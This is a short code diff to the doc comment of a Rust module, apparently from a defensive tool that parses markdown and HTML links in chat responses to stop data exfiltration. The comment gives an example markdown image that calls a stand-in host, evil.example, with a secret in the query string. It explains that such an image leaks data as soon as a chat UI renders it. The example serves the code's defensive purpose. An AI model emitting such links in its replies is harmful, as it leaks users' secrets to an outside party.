@@ -1,4 +1,6 @@
-//! Exfiltration through links and images.
+//! Exfiltration through links and images: the markdown and HTML link
+//! parser the response checks rewrite with (`crate::response`) and the
+//! content check reads (`crate::inject::assess_context`).
 //!
 //! Chat UIs render markdown; an image loads by itself, so
 //! `![](https://evil.example/log?d=<secret>)` sends data the moment it is
